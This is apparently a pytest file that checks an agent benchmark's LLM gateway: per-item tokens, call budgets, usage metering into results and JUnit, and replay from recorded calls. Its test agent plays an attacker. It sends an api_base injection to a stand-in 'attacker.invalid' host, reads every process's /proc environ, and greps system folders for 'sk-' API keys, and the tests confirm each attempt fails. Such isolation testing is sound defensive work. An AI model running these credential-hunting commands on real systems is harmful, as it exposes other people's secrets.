"""The gateway in a run (`pytest --agent=...`): the agent reaches `llm-gateway` with a per-item token on
an item network without internet; the host's provider key (OPENAI_API_KEY on the host) is not in the
agent's container, which an attacking agent checks; tokens land in result.json as the gateway's;
a budget stops the agent's calls and the result says so; --llm-replay repeats the run with the
provider switched off, and a call the recording lacks fails its item naming it and the call."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path
from xml.etree import ElementTree

import pytest

from support import AGENTS, GATEWAY_CLIENT, add_agent

pytestmark = pytest.mark.docker

PROVIDER_KEY = "sk-host-provider-key-for-the-gateway-test-4242"

TASK = """id: {id}
name: model caller
time_limit: 120
description: call the model
grader: grade.py:grade
allow_internet: false
"""
GRADE = """from pytest_agentbench.grading.result import Checkpoint

def grade(outputs):
    return [Checkpoint("ran", 1, total=1)]
"""

# The agent: asks the gateway as a client library would, then looks for any provider key it can find.
AGENT = GATEWAY_CLIENT + r'''
import glob, re, subprocess, sys
def ask(text, **extra):
    return post("/chat/completions", dict({"model": "openai/gpt-4o", "messages": [{"role": "user", "content": text}]},
                                          **extra))
questions = sys.argv[1:] or ["question one", "question two", "question three"]
status, body = ask(questions[0])
print("ANSWER1", status, json.loads(body)["choices"][0]["message"]["content"] if status == 200 else body)
status, body = ask(questions[1], stream=True)
print("ANSWER2", status, "".join(json.loads(l[6:])["choices"][0]["delta"].get("content") or ""
                                 for l in body.splitlines() if l.startswith("data: {")) if status == 200 else body)
if len(questions) > 2:
    status, body = ask(questions[2])
    print("ANSWER3", status, body.replace("\n", " "))
print("INJECT", *ask("x", api_base="http://attacker.invalid/v1"))
print("OTHERKEY", post("/chat/completions", {"model": "openai/gpt-4o", "messages": []}, key="sk-anything")[0])
seen = "\n".join(f"{k}={v}" for k, v in os.environ.items())
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        seen += open(path, "rb").read().decode(errors="replace").replace("\0", "\n")
    except OSError:
        pass
found = subprocess.run("grep -rIhoE 'sk-[A-Za-z0-9-]{10,}' /etc /home /tmp /opt /root /workspace 2>/dev/null",
                       shell=True, capture_output=True, text=True).stdout
print("KEYS SEEN", sorted(set(re.findall(r"sk-[A-Za-z0-9-]{10,}", seen + found))))
print("TOKEN", token.startswith("agentbench-"))
'''


@pytest.fixture
def project(tmp_path, base_image_tag, monkeypatch):
    monkeypatch.setenv("AGENTBENCH_BASE_IMAGE", "")
    shutil.copytree(AGENTS, tmp_path / "agents")
    task = tmp_path / "task_specs" / "llm" / "caller"
    task.mkdir(parents=True)
    (task / "task.yaml").write_text(TASK.format(id="llm-caller"))
    (task / "grade.py").write_text(GRADE)
    add_agent(tmp_path, "caller", "python3 /home/agent/agent.py\n", {"agent.py": AGENT})
    add_agent(tmp_path, "stranger", "python3 /home/agent/agent.py 'a question never recorded' 'another'\n",
              {"agent.py": AGENT})
    return tmp_path


def run(project: Path, *args: str, provider: str | None) -> subprocess.CompletedProcess:
    env = {k: v for k, v in __import__("os").environ.items() if not k.startswith(("OPENAI_", "PYTEST_"))}
    if provider:  # as a user sets them: litellm reads the host's environment
        env.update(OPENAI_API_KEY=PROVIDER_KEY, OPENAI_BASE_URL=provider)
    return subprocess.run([sys.executable, "-m", "pytest", "-p", "no:cacheprovider", "task_specs", *args],
                          cwd=project, env=env, capture_output=True, text=True, timeout=900)


def results(project: Path, group: Path | None = None) -> dict:
    [path] = (group.glob("*/result.json") if group else project.glob("runs/*/*/result.json"))
    result = json.loads(path.read_text())
    result["log"] = Path(result["agent_run"]["log_path"]).read_text() if result.get("agent_run") else ""
    return result


def story(result: dict) -> list[tuple]:
    """The agent's model turns and the programs it ran, in the trajectory's order."""
    steps = [json.loads(line) for line in Path(result["agent_run"]["trajectory_path"]).read_text().splitlines()]
    return [("model", s["call"], s["output"]) if s["kind"] == "model" else ("exec", s["command"])
            for s in steps if s.get("parent")]


def lines(log: str, *prefixes: str) -> list[str]:
    return [line for line in log.splitlines() if line.startswith(prefixes)]


def test_a_run_through_the_gateway_is_metered_budgeted_keyless_and_replayable(project, fake_llm, docker_client):
    fake_llm.set_rules([(r"one", "first answer"), (r"two", "second answer here")])
    done = run(project, "--agent=caller", "--llm-budget-calls", "2", "--junitxml=junit.xml", provider=fake_llm.url)
    result = results(project)
    log = result["log"]
    assert result["outcome"] == "passed", done.stdout[-3000:]
    assert "ANSWER1 200 first answer" in log and "ANSWER2 200 second answer here" in log, log
    assert "ANSWER3 429" in log and "budget_exhausted" in log  # the agent reads why
    assert "INJECT 400" in log and "api_base" in log and "OTHERKEY 401" in log
    assert "KEYS SEEN []" in log and PROVIDER_KEY not in log and "TOKEN True" in log
    assert len(fake_llm.requests) == 2  # neither the refused call nor the injection reached the provider
    # Nor is the key in any layer of the agent's image (a build argument or a copied file would put it there).
    images = [i for i in docker_client.images.list() if any(t.startswith("agentbench/agent-caller:") for t in i.tags)]
    for image in images:
        layers = b"".join(image.save())
        assert PROVIDER_KEY.encode() not in layers and b"agent.py" in layers
    assert images

    llm = result["llm"]
    assert llm["calls"] == 2 and "--llm-budget-calls" in llm["budget_exhausted"]
    assert llm["prompt_tokens"] == sum(u["prompt_tokens"] for u in fake_llm.usages)
    assert llm["completion_tokens"] == sum(u["completion_tokens"] for u in fake_llm.usages)
    assert llm["cost_usd"] > 0  # openai/gpt-4o is in litellm's price table
    assert result["usage"]["source"] == "gateway" and result["usage"]["input_tokens"] == llm["prompt_tokens"]
    recorded = [json.loads(line) for line in Path(llm["calls_file"]).read_text().splitlines()]
    assert [c["status"] for c in recorded] == [200, 200, 429, 400]
    # CI reads the same figures from JUnit.
    junit = {p.get("name"): p.get("value") for p in ElementTree.parse(project / "junit.xml").iter("property")}
    assert junit["llm_calls"] == "2" and junit["llm_failed_calls"] == "2", junit
    assert junit["llm_tokens"] == str(llm["prompt_tokens"] + llm["completion_tokens"])
    assert float(junit["llm_cost_usd"]) == llm["cost_usd"] and "--llm-budget-calls" in junit["llm_budget_exhausted"]
    group = Path(llm["calls_file"]).parents[2]
    # The model's turns sit in the trajectory in time order with the programs the agent ran: its
    # python3, the four calls, then the key hunt's grep (the gateway's refusals are turns too: the
    # agent read them).
    told = story(result)
    assert told[:3] == [("exec", "python3 /home/agent/agent.py"), ("model", 1, "first answer"),
                        ("model", 2, "second answer here")], told
    assert [t[1] for t in told if t[0] == "model"] == [1, 2, 3, 4]
    assert told[3][2].startswith("[budget_exhausted]") and told[4][2].startswith("[invalid_request_error]")
    assert told[5][0] == "exec" and "grep -rIhoE" in told[5][1], told

    fake_llm.stop()  # the replay needs no provider
    shutil.move(group, project / "recorded")
    again = run(project, "--agent=caller", "--llm-budget-calls", "2", "--llm-replay", "recorded", provider=None)
    replayed = results(project, next((project / "runs").iterdir()))
    assert replayed["outcome"] == "passed", again.stdout[-3000:]
    assert lines(replayed["log"], "ANSWER", "INJECT", "OTHERKEY") == lines(log, "ANSWER", "INJECT", "OTHERKEY")
    assert replayed["llm"]["prompt_tokens"] == llm["prompt_tokens"]
    assert story(replayed) == told  # the same trajectory, model turns and commands alike

    shutil.rmtree(project / "runs")
    missed = run(project, "--agent=stranger", "--llm-replay", "recorded", provider=None)
    result = results(project)
    assert result["outcome"] == "error", missed.stdout[-3000:]
    assert "task_specs/llm/caller" in result["phases"]["setup"]["message"]
    assert "call 1 (chat, model 'openai/gpt-4o') has no recorded answer" in result["phases"]["setup"]["message"]
    assert "ANSWER1 409" in result["log"]


def test_a_budget_that_is_not_a_number_stops_the_run_at_start(project):
    done = run(project, "--agent=caller", "--llm-budget-usd", "lots", provider=None)
    assert done.returncode == 4 and "--llm-budget-usd: got 'lots'" in done.stderr + done.stdout
    assert not list(project.glob("runs/*/*/result.json"))


def test_items_on_two_workers_each_get_their_own_gateway_figures(project, fake_llm):
    """Under -n 2 each worker has its own relay; each item's calls are its own, in its own folder."""
    second = project / "task_specs" / "llm" / "caller-two"
    second.mkdir()
    (second / "task.yaml").write_text(TASK.format(id="llm-caller-two"))
    (second / "grade.py").write_text(GRADE)
    add_agent(project, "asker", 'python3 /home/agent/agent.py "question from $TASK_ID" "two"\n', {"agent.py": AGENT})
    fake_llm.set_rules([(r"question from (\S+)", "seen"), (r"two", "second")])
    done = run(project, "--agent=asker", "-n", "2", provider=fake_llm.url)
    assert done.returncode == 0, done.stdout[-3000:]
    saved = [json.loads(p.read_text()) for p in project.glob("runs/*/*/result.json")]
    assert sorted(r["task_id"] for r in saved) == ["llm-caller", "llm-caller-two"]
    for result in saved:
        [first, *_] = [json.loads(line) for line in Path(result["llm"]["calls_file"]).read_text().splitlines()]
        assert first["request"]["messages"][0]["content"] == f"question from {result['task_id']}"
        assert result["llm"]["calls"] == 2 and result["usage"]["source"] == "gateway"
